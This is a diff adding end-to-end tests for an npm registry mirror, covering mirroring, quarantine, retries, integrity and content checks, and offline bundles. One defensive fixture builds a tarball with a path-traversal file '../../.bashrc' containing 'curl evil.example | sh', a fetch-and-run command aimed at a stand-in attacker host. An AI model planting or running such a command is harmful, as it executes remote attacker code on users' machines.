@@ -0,0 +1,1070 @@
+'use strict'
+
+const test = require('tape')
+const { each, parallel } = require('async')
+const bunyan = require('bunyan')
+const crypto = require('crypto')
+const fs = require('fs')
+const miss = require('mississippi')
+const os = require('os')
+const path = require('path')
+const proxyquire = require('proxyquire').noCallThru()
+const storage = require('frea-gcp-mirror-common/storage')
+const { exportBundle, importBundle, readBundle } = require('../../bundle')
+const { start, fetch } = require('../harness.js')
+const PubSubStub = require('../pubsub.stub.js')
+
+// End-to-end tests of the whole mirror: changes published to the fake registry
+// go through the follower, the packages and tarballs Cloud Functions, and end
+// up in storage. Every test uses its own package names so they don't trip over
+// each other's state.
+
+let mirror = null
+
+// read reads an object out of the mirror
+function read (key, cb) {
+  miss.pipe(mirror.bucket.createReadStream(key), miss.concat((bits) => {
+    cb(null, bits)
+  }), (e) => {
+    if (e) {
+      cb(e)
+    }
+  })
+}
+
+function readJSON (key, cb) {
+  read(key, (e, bits) => {
+    if (e) {
+      return cb(e)
+    }
+    cb(null, JSON.parse(bits))
+  })
+}
+
+// events returns the events of a type announced for a package so far
+function events (name, type) {
+  return mirror.pubsub.topic('events').published
+    .map((message) => JSON.parse(Buffer.from(message.data, 'base64')))
+    .filter((event) => event.name === name && event.type === type)
+}
+
+// retries returns the retry queue records of a tarball
+function retries (path) {
+  return Object.keys(mirror.documents)
+    .filter((key) => key.indexOf('retries/') === 0)
+    .map((key) => mirror.documents[key])
+    .filter((record) => record.attributes.path === path)
+}
+
+test('start the mirror', (t) => {
+  start((e, started) => {
+    t.error(e)
+    mirror = started
+    t.end()
+  })
+})
+
+test('mirrors a package', (t) => {
+  mirror.registry.publish({
+    name: 'basic',
+    versions: [ '1.0.0', '1.1.0', '2.0.0-beta.1' ],
+    tags: { latest: '1.1.0', next: '2.0.0-beta.1' }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      packument: (cb) => readJSON('basic/index.json', cb),
+      corgi: (cb) => readJSON('basic/corgi.json', cb),
+      version: (cb) => readJSON('basic/1.0.0/index.json', cb),
+      latest: (cb) => readJSON('basic/latest/index.json', cb),
+      next: (cb) => readJSON('basic/next/index.json', cb),
+      tarball: (cb) => read('/basic/-/basic-1.0.0.tgz', cb),
+      metadata: (cb) => mirror.bucket.getMetadata('/basic/-/basic-1.0.0.tgz', cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored package')
+      t.deepEqual(Object.keys(mirrored.packument.versions).sort(),
+        [ '1.0.0', '1.1.0', '2.0.0-beta.1' ], 'every version is mirrored')
+      t.deepEqual(mirrored.packument['dist-tags'],
+        { latest: '1.1.0', next: '2.0.0-beta.1' }, 'dist-tags are mirrored')
+      // Tarball urls are the mirror's url followed by the tarball's key, which
+      // starts with a slash, so the bucket can serve them as they are. The
+      // read server serves them too, see below.
+      t.equal(mirrored.packument.versions['1.0.0'].dist.tarball,
+        'http://mirror.test//basic/-/basic-1.0.0.tgz',
+        'tarball urls point at the mirror')
+      t.equal(mirrored.corgi.name, 'basic', 'the abbreviated manifest is mirrored')
+      t.equal(mirrored.version.version, '1.0.0', 'version manifests are mirrored')
+      t.equal(mirrored.latest.version, '1.1.0', 'latest points at its version')
+      t.equal(mirrored.next.version, '2.0.0-beta.1', 'next points at its version')
+      t.ok(mirrored.tarball.equals(mirror.registry.tarball('basic', '1.0.0')),
+        'the tarball is mirrored bit for bit')
+      t.equal(mirrored.metadata.metadata.shasum,
+        mirrored.packument.versions['1.0.0'].dist.shasum,
+        'the verified shasum is recorded')
+      t.end()
+    })
+  })
+})
+
+test('skips tarballs that are already mirrored', (t) => {
+  const tarball = (version) => '/skipped/-/skipped-' + version + '.tgz'
+  mirror.registry.publish({ name: 'skipped', versions: [ '1.0.0', '1.1.0' ] })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    // The bucket's copy of 1.1.0 no longer matches what npm says it is
+    mirror.bucket.setMetadata(tarball('1.1.0'), { shasum: 'stale' }, (e) => {
+      t.error(e)
+      // Publishing another version mirrors the package again, the registry
+      // starts counting requests for its tarballs afresh
+      mirror.registry.publish({ name: 'skipped', versions: [ '1.0.0', '1.1.0', '1.2.0' ] })
+      mirror.settle((e) => {
+        t.error(e, 'settled')
+        t.equal(mirror.registry.requests('skipped', '1.0.0').length, 0,
+          'a tarball whose shasum matches is not downloaded again')
+        t.equal(mirror.registry.requests('skipped', '1.1.0').length, 1,
+          'a tarball whose shasum does not match is')
+        t.equal(mirror.registry.requests('skipped', '1.2.0').length, 1,
+          'and so is a new one')
+        // The tarballs Cloud Function checks too, for messages that are
+        // delivered twice or replayed
+        const message = mirror.pubsub.topic('tarballs').published
+          .find((message) => message.attributes.path === tarball('1.2.0'))
+        mirror.pubsub.topic('tarballs').publish(
+          Buffer.from(message.data, 'base64'), message.attributes)
+        mirror.settle((e) => {
+          t.error(e, 'settled')
+          t.equal(mirror.registry.requests('skipped', '1.2.0').length, 1,
+            'a replayed tarball is not downloaded again')
+          mirror.bucket.getMetadata(tarball('1.1.0'), (e, metadata) => {
+            t.error(e)
+            t.equal(metadata.metadata.shasum,
+              crypto.createHash('sha1')
+                .update(mirror.registry.tarball('skipped', '1.1.0')).digest('hex'),
+              'the shasum of the tarball downloaded again is recorded')
+            t.end()
+          })
+        })
+      })
+    })
+  })
+})
+
+test('mirrors a scoped package', (t) => {
+  mirror.registry.publish({ name: '@scope/scoped', versions: [ '1.0.0' ] })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      packument: (cb) => readJSON('@scope/scoped/index.json', cb),
+      tarball: (cb) => read('/@scope/scoped/-/scoped-1.0.0.tgz', cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored package')
+      t.equal(mirrored.packument.versions['1.0.0'].dist.tarball,
+        'http://mirror.test//@scope/scoped/-/scoped-1.0.0.tgz',
+        'tarball urls point at the mirror')
+      t.ok(mirrored.tarball.equals(mirror.registry.tarball('@scope/scoped', '1.0.0')),
+        'the tarball is mirrored bit for bit')
+      t.end()
+    })
+  })
+})
+
+test('rewrites tarball urls to point at the mirror', (t) => {
+  const rewrite = mirror.packages.rewriteTarballUrls
+  const upstream = mirror.registry.url
+  const packument = (name, tarballs) => {
+    const versions = {}
+    Object.keys(tarballs).forEach((version) => {
+      versions[version] = { name, version, dist: { tarball: tarballs[version] } }
+    })
+    return { name, versions }
+  }
+  const tarballs = (manifest) => Object.keys(manifest.versions)
+    .map((version) => manifest.versions[version].dist.tarball)
+
+  const unscoped = packument('rewritten', {
+    '1.0.0': upstream + '/rewritten/-/rewritten-1.0.0.tgz',
+    '1.1.0': 'http://mirror.test//rewritten/-/rewritten-1.1.0.tgz',
+    '1.2.0': upstream + '/someone-else/-/someone-else-1.0.0.tgz'
+  })
+  const rewritten = rewrite(unscoped)
+  t.deepEqual(tarballs(rewritten), [
+    'http://mirror.test//rewritten/-/rewritten-1.0.0.tgz',
+    'http://mirror.test//rewritten/-/rewritten-1.1.0.tgz',
+    upstream + '/someone-else/-/someone-else-1.0.0.tgz'
+  ], 'upstream urls point at the mirror, others are left alone')
+  t.equal(unscoped.versions['1.0.0'].dist.tarball,
+    upstream + '/rewritten/-/rewritten-1.0.0.tgz', 'the manifest is copied')
+  t.deepEqual(rewrite(rewritten), rewritten, 'rewriting again changes nothing')
+
+  const scoped = packument('@scope/rewritten', {
+    '1.0.0': upstream + '/@scope/rewritten/-/rewritten-1.0.0.tgz',
+    '1.1.0': upstream + '/@other/rewritten/-/rewritten-1.1.0.tgz'
+  })
+  t.deepEqual(tarballs(rewrite(scoped)), [
+    'http://mirror.test//@scope/rewritten/-/rewritten-1.0.0.tgz',
+    upstream + '/@other/rewritten/-/rewritten-1.1.0.tgz'
+  ], 'scoped tarballs keep their scope, other scopes are left alone')
+
+  t.equal(rewrite(scoped.versions['1.0.0']).dist.tarball,
+    'http://mirror.test//@scope/rewritten/-/rewritten-1.0.0.tgz',
+    'the manifest of a single version is rewritten too')
+  t.deepEqual(rewrite({ name: 'rewritten', versions: { '1.0.0': { dist: {} } } }),
+    { name: 'rewritten', versions: { '1.0.0': { dist: {} } } },
+    'versions without a tarball are left alone')
+  t.end()
+})
+
+test('installs through the read server', (t) => {
+  // What npm install does: ask for the abbreviated packument, then download
+  // the tarball its version points at. The tarball urls point at the mirror,
+  // which the read server stands in for here.
+  const install = (name, version, cb) => {
+    const accept = { accept: 'application/vnd.npm.install-v1+json' }
+    fetch(mirror.server, '/' + name.replace('/', '%2f'), { headers: accept }, (e, res) => {
+      t.error(e, 'asked for ' + name)
+      t.equal(res.statusCode, 200, 'the packument of ' + name + ' is served')
+      const tarball = JSON.parse(res.body).versions[version].dist.tarball
+      t.equal(tarball.indexOf('http://mirror.test/'), 0, 'its tarball is on the mirror')
+      fetch(mirror.server, tarball.slice('http://mirror.test'.length), {}, (e, res) => {
+        t.error(e, 'asked for ' + tarball)
+        t.equal(res.statusCode, 200, 'the tarball of ' + name + ' is served')
+        t.ok(res.body.equals(mirror.registry.tarball(name, version)),
+          'bit for bit')
+        cb()
+      })
+    })
+  }
+  install('basic', '1.0.0', () => install('@scope/scoped', '1.0.0', () => t.end()))
+})
+
+test('mirrors a routed scope from its own upstream', (t) => {
+  mirror.internal.publish({ name: '@internal/secret', versions: [ '1.0.0' ] })
+  // Somebody publishes a package in our private scope to npm, with a version
+  // that would win over ours
+  mirror.registry.publish({ name: '@internal/secret', versions: [ '1.0.0', '99.0.0' ] })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    t.notOk(mirror.documents['mirrored/' + encodeURIComponent('@internal/secret')],
+      'the change on npm is not mirrored')
+    // The private registry has no feed we follow, changes to it are handed to
+    // the packages topic the way seeding does
+    mirror.pubsub.topic('packages').publish(Buffer.from('@internal/secret'))
+    mirror.settle((e) => {
+      t.error(e, 'settled')
+      parallel({
+        packument: (cb) => readJSON('@internal/secret/index.json', cb),
+        tarball: (cb) => read('/@internal/secret/-/secret-1.0.0.tgz', cb),
+        shadow: (cb) => mirror.bucket.exists('/@internal/secret/-/secret-99.0.0.tgz', cb)
+      }, (e, mirrored) => {
+        t.error(e, 'read the mirrored package')
+        t.deepEqual(Object.keys(mirrored.packument.versions), [ '1.0.0' ],
+          'only the versions on the private registry are mirrored')
+        t.ok(mirrored.tarball.equals(mirror.internal.tarball('@internal/secret', '1.0.0')),
+          'the tarball comes from the private registry')
+        t.notOk(mirrored.shadow, 'the tarball published to npm is not mirrored')
+        t.ok(mirror.internal.credentials.length > 0 &&
+          mirror.internal.credentials.every((header) => header === 'Bearer internal-token'),
+        'the private registry is authenticated to')
+        t.ok(mirror.internal.tarballUrl.indexOf('http://localhost:') === 0,
+          'including the host its tarballs are served from')
+        t.deepEqual(mirror.registry.credentials, [], 'npm is never sent the token')
+        t.end()
+      })
+    })
+  })
+})
+
+test('mirrors a large package in chunks', (t) => {
+  const versions = []
+  for (let i = 0; i < 10; i++) {
+    versions.push('1.' + i + '.0')
+  }
+  mirror.registry.publish({ name: 'large', versions })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      packument: (cb) => readJSON('large/index.json', cb),
+      versions: (cb) => mirror.bucket.list('large/', cb),
+      tarballs: (cb) => mirror.bucket.list('/large/-/', cb),
+      batches: (cb) => mirror.bucket.list('_batches/', cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored package')
+      t.deepEqual(Object.keys(mirrored.packument.versions).sort(),
+        versions.slice().sort(), 'every version is in the packument')
+      versions.forEach((version) => {
+        t.ok(mirrored.versions.indexOf('large/' + version + '/index.json') !== -1,
+          version + ' is mirrored')
+        t.ok(mirrored.tarballs.indexOf('/large/-/large-' + version + '.tgz') !== -1,
+          'the tarball of ' + version + ' is mirrored')
+      })
+      t.deepEqual(mirrored.batches, [], 'the batch is cleaned up')
+      const recorded = (version) => 'mirrored/large/tarballs/' +
+        encodeURIComponent('/large/-/large-' + version + '.tgz')
+      t.ok(versions.every((version) => mirror.documents[recorded(version)]),
+        'every tarball is recorded in a document of its own')
+      const refreshes = mirror.pubsub.topic('packages').published
+        .filter((message) => message.attributes.refresh === 'true' &&
+          Buffer.from(message.data, 'base64').toString() === 'large')
+      t.ok(refreshes.length < versions.length,
+        'tarballs mirrored at the same time share a refresh')
+      t.end()
+    })
+  })
+})
+
+test('retries a corrupt tarball', (t) => {
+  mirror.registry.publish({
+    name: 'corrupt',
+    versions: [ '1.0.0' ],
+    tarballs: { '1.0.0': { corrupt: true } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    mirror.bucket.exists('/corrupt/-/corrupt-1.0.0.tgz', (e, exists) => {
+      t.error(e)
+      t.notOk(exists, 'the corrupt tarball is not kept')
+      const recorded = 'mirrored/corrupt/tarballs/' +
+        encodeURIComponent('/corrupt/-/corrupt-1.0.0.tgz')
+      t.notOk(mirror.documents[recorded], 'the tarball is not recorded as mirrored')
+      const queued = retries('/corrupt/-/corrupt-1.0.0.tgz')
+      t.equal(queued.length, 1, 'the tarball is queued for retry')
+      t.equal(queued[0].reason, 'failed integrity check', 'with the reason')
+      t.equal(queued[0].topic, 'tarballs', 'to replay into the tarballs topic')
+      t.end()
+    })
+  })
+})
+
+test('refuses a tarball whose contents are not its version', (t) => {
+  mirror.registry.publish({
+    name: 'impostor',
+    versions: [ '1.0.0', '1.1.0', '1.2.0' ],
+    tarballs: {
+      '1.1.0': { files: { 'package.json': JSON.stringify({ name: 'left-pad', version: '1.1.0' }) } },
+      '1.2.0': {
+        files: {
+          'package.json': JSON.stringify({ name: 'impostor', version: '1.2.0' }),
+          '../../.bashrc': 'curl evil.example | sh'
+        }
+      }
+    }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    readJSON('impostor/index.json', (e, packument) => {
+      t.error(e, 'read the mirrored package')
+      t.deepEqual(Object.keys(packument.versions), [ '1.0.0' ],
+        'only the version whose tarball checks out is listed')
+      mirror.bucket.exists('/impostor/-/impostor-1.1.0.tgz', (e, exists) => {
+        t.error(e)
+        t.notOk(exists, 'the refused tarball is not kept')
+        const failed = events('impostor', 'content.failed')
+        t.deepEqual(failed.map((event) => event.version + ' ' + event.reason).sort(),
+          [ '1.1.0 name-mismatch', '1.2.0 traversal' ], 'every refusal is announced')
+        t.ok(failed.every((event) => event.enforced), 'as enforced')
+        const parked = Object.keys(mirror.documents)
+          .filter((key) => key.indexOf('deadletter/') === 0)
+          .map((key) => mirror.documents[key])
+          .filter((record) => /^\/impostor\//.test(record.attributes.path))
+        t.equal(parked.length, 2, 'both are parked in the dead-letter store right away')
+        t.equal(retries('/impostor/-/impostor-1.1.0.tgz').length, 0,
+          'instead of being queued for retry')
+        t.ok(parked.every((record) => /^failed content check: /.test(record.reason)),
+          'with the reason')
+        t.end()
+      })
+    })
+  })
+})
+
+test('refuses a tarball that belongs to another package', (t) => {
+  // @scope/scoped is mirrored above, this points one of its versions at its
+  // tarball
+  const victim = '/@scope/scoped/-/scoped-1.0.0.tgz'
+  const requests = mirror.registry.requests('@scope/scoped', '1.0.0').length
+  mirror.registry.publish({
+    name: '@other/hijack',
+    versions: [ '1.0.0', '1.1.0' ],
+    tarballs: { '1.0.0': { path: victim } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      packument: (cb) => readJSON('@other/hijack/index.json', cb),
+      version: (cb) => mirror.bucket.exists('@other/hijack/1.0.0/index.json', cb),
+      tarball: (cb) => read(victim, cb),
+      metadata: (cb) => mirror.bucket.getMetadata(victim, cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored packages')
+      t.deepEqual(Object.keys(mirrored.packument.versions), [ '1.1.0' ],
+        'the version is not listed')
+      t.notOk(mirrored.version, 'nor is its manifest uploaded')
+      t.equal(mirror.registry.requests('@scope/scoped', '1.0.0').length, requests,
+        'the tarball it points at is not downloaded')
+      t.ok(mirrored.tarball.equals(mirror.registry.tarball('@scope/scoped', '1.0.0')),
+        'the package it belongs to keeps it')
+      t.equal(mirrored.metadata.metadata.shasum,
+        crypto.createHash('sha1').update(mirrored.tarball).digest('hex'),
+        'still verified')
+      t.end()
+    })
+  })
+})
+
+test('only lists versions whose tarball is mirrored', (t) => {
+  mirror.registry.publish({
+    name: 'partial',
+    versions: [ '1.0.0', '1.1.0', '2.0.0' ],
+    tags: { latest: '2.0.0', stable: '1.1.0' },
+    tarballs: { '2.0.0': { corrupt: true } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      packument: (cb) => readJSON('partial/index.json', cb),
+      corgi: (cb) => readJSON('partial/corgi.json', cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored package')
+      t.deepEqual(Object.keys(mirrored.packument.versions).sort(),
+        [ '1.0.0', '1.1.0' ], 'the packument only lists mirrored versions')
+      t.deepEqual(Object.keys(mirrored.corgi.versions).sort(),
+        [ '1.0.0', '1.1.0' ], 'so does the abbreviated manifest')
+      t.deepEqual(mirrored.packument['dist-tags'], { stable: '1.1.0' },
+        'dist-tags pointing at versions that are not mirrored are left out')
+      t.notOk(mirrored.packument.time['2.0.0'], 'and so is their time')
+      t.deepEqual(mirror.documents['mirrored/partial'].exposed, [ '1.0.0', '1.1.0' ],
+        'the exposed versions are recorded')
+      t.end()
+    })
+  })
+})
+
+test('hides a package until one of its tarballs is mirrored', (t) => {
+  mirror.registry.publish({
+    name: 'hidden',
+    versions: [ '1.0.0' ],
+    tarballs: { '1.0.0': { status: 500 } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel([
+      (cb) => mirror.bucket.exists('hidden/index.json', cb),
+      (cb) => mirror.bucket.exists('hidden/corgi.json', cb)
+    ], (e, exists) => {
+      t.error(e)
+      t.deepEqual(exists, [ false, false ], 'the package level manifests are not uploaded')
+      t.end()
+    })
+  })
+})
+
+test('holds back versions the quarantine has not released', (t) => {
+  const now = new Date().toISOString()
+  const spec = {
+    versions: [ '1.0.0', '1.1.0' ],
+    time: { '1.1.0': now }
+  }
+  mirror.registry.publish(Object.assign({ name: '@quarantined/fresh' }, spec))
+  mirror.registry.publish(Object.assign({ name: '@quarantined/ours' }, spec))
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      fresh: (cb) => readJSON('@quarantined/fresh/index.json', cb),
+      held: (cb) => mirror.bucket.exists('@quarantined/fresh/1.1.0/index.json', cb),
+      latest: (cb) => readJSON('@quarantined/fresh/latest/index.json', cb),
+      ours: (cb) => readJSON('@quarantined/ours/index.json', cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored packages')
+      t.deepEqual(Object.keys(mirrored.fresh.versions), [ '1.0.0' ],
+        'the new version is held back')
+      t.notOk(mirrored.held, 'so is its manifest')
+      t.deepEqual(mirrored.fresh['dist-tags'], { latest: '1.0.0' },
+        'latest points at the newest version that is not held back')
+      t.equal(mirrored.latest.version, '1.0.0', 'so does its manifest')
+      t.deepEqual(Object.keys(mirrored.ours.versions).sort(), [ '1.0.0', '1.1.0' ],
+        'allowed packages are not held back')
+      const doc = mirror.documents['mirrored/' + encodeURIComponent('@quarantined/fresh')]
+      t.ok(doc.heldUntil > Date.now() + 23 * 60 * 60 * 1000,
+        'the version is held back for a day')
+
+      // Pretend a day has gone by
+      doc.published['1.1.0'] = new Date(0).toISOString()
+      doc.heldUntil = Date.now()
+      mirror.pubsub.topic('quarantine-tick').publish(Buffer.from('tick'))
+      mirror.settle((e) => {
+        t.error(e, 'settled the scheduled refresh')
+        parallel({
+          packument: (cb) => readJSON('@quarantined/fresh/index.json', cb),
+          version: (cb) => readJSON('@quarantined/fresh/1.1.0/index.json', cb),
+          latest: (cb) => readJSON('@quarantined/fresh/latest/index.json', cb)
+        }, (e, released) => {
+          t.error(e, 'read the mirrored package')
+          const packument = released.packument
+          t.deepEqual(Object.keys(packument.versions).sort(), [ '1.0.0', '1.1.0' ],
+            'the version is released')
+          t.equal(released.version.version, '1.1.0', 'and so is its manifest')
+          t.deepEqual(packument['dist-tags'], { latest: '1.1.0' },
+            'latest points at it')
+          t.equal(released.latest.version, '1.1.0', 'and so does its manifest')
+          t.equal(mirror.documents['mirrored/' + encodeURIComponent('@quarantined/fresh')].heldUntil,
+            null, 'nothing is held back anymore')
+          t.end()
+        })
+      })
+    })
+  })
+})
+
+test('points held back dist-tags at their own release line', (t) => {
+  // 1.0.1 is a backport, published after 2.0.0. The new release of every line
+  // is held back: 2.1.0 for latest, 3.0.0-beta.2 for next, and canary has
+  // nothing released before it.
+  const now = new Date().toISOString()
+  mirror.registry.publish({
+    name: '@quarantined/lines',
+    versions: [
+      '1.0.0', '2.0.0', '1.0.1', '3.0.0-beta.1', '2.1.0', '3.0.0-beta.2',
+      '4.0.0-canary.0'
+    ],
+    tags: { latest: '2.1.0', next: '3.0.0-beta.2', canary: '4.0.0-canary.0' },
+    time: {
+      '1.0.0': '2019-01-01T00:00:00.000Z',
+      '2.0.0': '2019-02-01T00:00:00.000Z',
+      '1.0.1': '2019-03-01T00:00:00.000Z',
+      '3.0.0-beta.1': '2019-04-01T00:00:00.000Z',
+      '2.1.0': now,
+      '3.0.0-beta.2': now,
+      '4.0.0-canary.0': now
+    }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    parallel({
+      packument: (cb) => readJSON('@quarantined/lines/index.json', cb),
+      latest: (cb) => readJSON('@quarantined/lines/latest/index.json', cb),
+      next: (cb) => readJSON('@quarantined/lines/next/index.json', cb),
+      canary: (cb) => mirror.bucket.exists('@quarantined/lines/canary/index.json', cb)
+    }, (e, mirrored) => {
+      t.error(e, 'read the mirrored package')
+      t.deepEqual(Object.keys(mirrored.packument.versions).sort(),
+        [ '1.0.0', '1.0.1', '2.0.0', '3.0.0-beta.1' ],
+        'the new versions are held back')
+      t.deepEqual(mirrored.packument['dist-tags'],
+        { latest: '2.0.0', next: '3.0.0-beta.1' },
+        'tags point at the newest release of their own line')
+      t.equal(mirrored.latest.version, '2.0.0',
+        'the backport to 1.x does not take latest over')
+      t.equal(mirrored.next.version, '3.0.0-beta.1',
+        'next stays on its prereleases')
+      t.notOk(mirrored.canary, 'a tag with nothing released is dropped')
+      t.end()
+    })
+  })
+})
+
+test('retries a tarball that fails to download', (t) => {
+  mirror.registry.publish({
+    name: 'missing',
+    versions: [ '1.0.0' ],
+    tarballs: { '1.0.0': { status: 404 } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    mirror.bucket.exists('/missing/-/missing-1.0.0.tgz', (e, exists) => {
+      t.error(e)
+      t.notOk(exists, 'nothing is stored')
+      const queued = retries('/missing/-/missing-1.0.0.tgz')
+      t.equal(queued.length, 1, 'the tarball is queued for retry')
+      t.equal(queued[0].reason, 'failed to download/upload', 'with the reason')
+      t.end()
+    })
+  })
+})
+
+test('waits for a slow tarball', (t) => {
+  mirror.registry.publish({
+    name: 'slow',
+    versions: [ '1.0.0' ],
+    tarballs: { '1.0.0': { delayMs: 1000 } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    read('/slow/-/slow-1.0.0.tgz', (e, bits) => {
+      t.error(e, 'read the mirrored tarball')
+      t.ok(bits && bits.equals(mirror.registry.tarball('slow', '1.0.0')),
+        'the tarball is mirrored bit for bit')
+      t.end()
+    })
+  })
+})
+
+test('resumes a tarball download that breaks off', (t) => {
+  mirror.registry.publish({
+    name: 'flaky',
+    versions: [ '1.0.0', '1.1.0', '1.2.0' ],
+    tarballs: {
+      '1.0.0': { cut: 1 },
+      '1.1.0': { stall: 1 },
+      '1.2.0': { cut: 1, ranges: false }
+    }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    readJSON('flaky/index.json', (e, packument) => {
+      t.error(e, 'read the mirrored package')
+      t.deepEqual(Object.keys(packument.versions).sort(), [ '1.0.0', '1.1.0', '1.2.0' ],
+        'every version is mirrored, its hashes check out')
+      each([ '1.0.0', '1.1.0', '1.2.0' ], (version, cb) => {
+        read('/flaky/-/flaky-' + version + '.tgz', (e, bits) => {
+          t.error(e, 'read the mirrored tarball')
+          t.ok(bits && bits.equals(mirror.registry.tarball('flaky', version)),
+            version + ' is mirrored bit for bit')
+          cb()
+        })
+      }, () => {
+        const half = (version) => 'bytes=' +
+          Math.floor(mirror.registry.tarball('flaky', version).length / 2) + '-'
+        t.deepEqual(mirror.registry.requests('flaky', '1.0.0'), [ '', half('1.0.0') ],
+          'a dropped download is resumed where it stopped')
+        t.deepEqual(mirror.registry.requests('flaky', '1.1.0'), [ '', half('1.1.0') ],
+          'so is a stalled one')
+        t.deepEqual(mirror.registry.requests('flaky', '1.2.0'), [ '', half('1.2.0') ],
+          'a registry that ignores the range is asked for it too')
+        t.equal(retries('/flaky/-/flaky-1.0.0.tgz').length, 0,
+          'none of them end up in the retry queue')
+        t.end()
+      })
+    })
+  })
+})
+
+test('refuses a tarball bigger than the limit', (t) => {
+  mirror.registry.publish({
+    name: 'huge',
+    versions: [ '1.0.0' ],
+    tarballs: {
+      '1.0.0': {
+        files: {
+          'package.json': JSON.stringify({ name: 'huge', version: '1.0.0' }),
+          'blob.bin': crypto.randomBytes(96 * 1024)
+        }
+      }
+    }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    mirror.bucket.exists('/huge/-/huge-1.0.0.tgz', (e, exists) => {
+      t.error(e)
+      t.notOk(exists, 'the tarball is not kept')
+      t.equal(mirror.registry.requests('huge', '1.0.0').length, 1,
+        'it is downloaded once')
+      const parked = Object.keys(mirror.documents)
+        .filter((key) => key.indexOf('deadletter/') === 0)
+        .map((key) => mirror.documents[key])
+        .filter((record) => record.attributes.path === '/huge/-/huge-1.0.0.tgz')
+      t.equal(parked.length, 1, 'it is parked in the dead-letter store right away')
+      t.equal(parked[0].reason, 'tarball too large', 'with the reason')
+      t.end()
+    })
+  })
+})
+
+test('leaves nothing behind when a download keeps failing', (t) => {
+  // Every attempt to download the tarball is cut off halfway
+  mirror.registry.publish({
+    name: 'severed',
+    versions: [ '1.0.0' ],
+    tarballs: { '1.0.0': { cut: 3 } }
+  })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    t.equal(mirror.registry.requests('severed', '1.0.0').length, 3,
+      'every attempt is made')
+    mirror.bucket.exists('/severed/-/severed-1.0.0.tgz', (e, exists) => {
+      t.error(e)
+      t.notOk(exists, 'the tarball is not in the bucket')
+      t.deepEqual(fs.readdirSync(path.join(mirror.directory, '.tmp')), [],
+        'nor is what was written of it left lying around')
+      t.end()
+    })
+  })
+})
+
+test('carries packages to an offline mirror in bundles', (t) => {
+  const log = bunyan.createLogger({ name: 'bundle', level: 'fatal' })
+  const directory = fs.mkdtempSync(path.join(os.tmpdir(), 'frea-bundles-'))
+  const first = path.join(directory, 'first.tgz')
+  const second = path.join(directory, 'second.tgz')
+  // The offline mirror is served from somewhere else
+  const offline = storage.createStorage({
+    backend: 'local',
+    directory: path.join(directory, 'offline')
+  })
+  const exportOpts = { bucket: mirror.bucket, log, mirrorUrl: 'http://mirror.test/' }
+  const importOpts = { bucket: offline, log, mirrorUrl: 'http://offline.test/' }
+  const readOffline = (key, cb) => {
+    miss.pipe(offline.createReadStream(key), miss.concat((bits) => cb(null, bits)),
+      (e) => { if (e) { cb(e) } })
+  }
+
+  mirror.registry.publish({ name: 'bundled', versions: [ '1.0.0', '1.1.0' ] })
+  mirror.settle((e) => {
+    t.error(e, 'settled')
+    exportBundle(exportOpts, [ 'bundled', 'not-mirrored' ], first, (e, report) => {
+      t.error(e, 'exported')
+      t.equal(report.packages, 1, 'exports the mirrored package')
+      t.equal(report.failed, 1, 'reports the package that is not mirrored')
+      importBundle(importOpts, first, (e, report) => {
+        t.error(e, 'imported')
+        t.equal(report.rejected, 0, 'every package checks out')
+        readOffline('bundled/index.json', (e, bits) => {
+          t.error(e)
+          const packument = JSON.parse(bits)
+          t.deepEqual(Object.keys(packument.versions), [ '1.0.0', '1.1.0' ])
+          t.equal(packument.versions['1.0.0'].dist.tarball,
+            'http://offline.test//bundled/-/bundled-1.0.0.tgz',
+            'points the tarballs at the offline mirror')
+          readOffline('/bundled/-/bundled-1.0.0.tgz', (e, bits) => {
+            t.error(e)
+            t.ok(bits.equals(mirror.registry.tarball('bundled', '1.0.0')),
+              'loads the tarballs bit for bit')
+            incremental()
+          })
+        })
+      })
+    })
+  })
+
+  const incremental = () => {
+    mirror.registry.publish({ name: 'bundled', versions: [ '1.0.0', '1.1.0', '1.2.0' ] })
+    mirror.settle((e) => {
+      t.error(e, 'settled the new version')
+      fs.mkdirSync(path.join(directory, 'fresh'))
+      const fresh = storage.createStorage({
+        backend: 'local',
+        directory: path.join(directory, 'fresh')
+      })
+      readBundle(first, (e, since) => {
+        t.error(e, 'read the first bundle')
+        exportBundle(Object.assign({ since }, exportOpts), [ 'bundled' ], second, (e, report) => {
+          t.error(e, 'exported what changed')
+          t.equal(report.unchanged, 4, 'leaves out the versions already bundled')
+          importBundle(Object.assign({}, importOpts, { bucket: fresh }), second, (e, report) => {
+            t.error(e)
+            t.equal(report.rejected, 1,
+              'refuses to import without the previous bundle')
+            importBundle(importOpts, second, (e, report) => {
+              t.error(e, 'imported what changed')
+              t.equal(report.rejected, 0, 'every package checks out')
+              offline.exists('/bundled/-/bundled-1.2.0.tgz', (e, exists) => {
+                t.error(e)
+                t.ok(exists, 'loads the new tarball')
+                t.end()
+              })
+            })
+          })
+        })
+      })
+    })
+  }
+})
+
+test('announces what it mirrors to the events topic and the webhook', (t) => {
+  mirror.registry.publish({
+    name: 'announced',
+    versions: [ '1.0.0', '1.1.0', '1.2.0' ],
+    tarballs: { '1.2.0': { corrupt: true } }
+  })
+  const seq = mirror.registry.seq
+  mirror.settle((e) => {
+    t.error(e, 'settled')
